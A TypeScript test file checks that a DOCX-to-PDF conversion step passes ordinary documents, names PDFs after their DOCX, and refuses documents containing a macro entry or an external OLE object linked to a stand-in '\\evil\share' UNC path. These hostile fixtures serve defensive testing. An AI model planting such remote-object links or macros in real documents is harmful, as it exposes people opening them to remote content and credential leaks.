import { describe, expect, it } from 'vitest';
import type { DocumentConverter } from '../../platform/documents/document-converter.ts';
import { minimalDocx } from './minimal-docx.ts';
import { generatedPdf, pdfFileName } from './pdf-document.ts';

/** Records what reached the converter: a refused document must never get there. */
function recordingConverter(): DocumentConverter & { seen: Buffer[] } {
  const seen: Buffer[] = [];
  return {
    pdfAvailable: true,
    seen,
    toPdf: (docx) => (seen.push(docx), Promise.resolve(Buffer.from('%PDF-'))),
  };
}

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const rels = (...entries: string[]) =>
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${entries.join('')}</Relationships>`;

describe('a generated document on its way to PDF', () => {
  it('passes an ordinary document to the converter', async () => {
    const converter = recordingConverter();
    await expect(generatedPdf(converter, minimalDocx(['Потврда']))).resolves.toEqual(Buffer.from('%PDF-'));
    expect(converter.seen).toHaveLength(1);
  });

  it('refuses a document with a macro or a link to outside content before LibreOffice sees it', async () => {
    const converter = recordingConverter();
    const macro = minimalDocx(['x'], { extraEntries: { 'word/vbaProject.bin': 'VBA' } });
    await expect(generatedPdf(converter, macro)).rejects.toMatchObject({
      code: 'SERVICE_UNAVAILABLE',
      message: expect.stringContaining('was refused') as unknown,
    });
    const outside = minimalDocx(['x'], {
      extraEntries: {
        'word/_rels/document.xml.rels': rels(
          `<Relationship Id="rId6" Type="${REL}/oleObject" Target="\\\\evil\\share\\x.bin" TargetMode="External"/>`,
        ),
      },
    });
    await expect(generatedPdf(converter, outside)).rejects.toMatchObject({ code: 'SERVICE_UNAVAILABLE' });
    expect(converter.seen).toEqual([]);
  });

  it('names the PDF after its DOCX', () => {
    expect(pdfFileName('Потврда – Милан.docx')).toBe('Потврда – Милан.pdf');
    expect(pdfFileName('Certificate')).toBe('Certificate.pdf');
  });
});
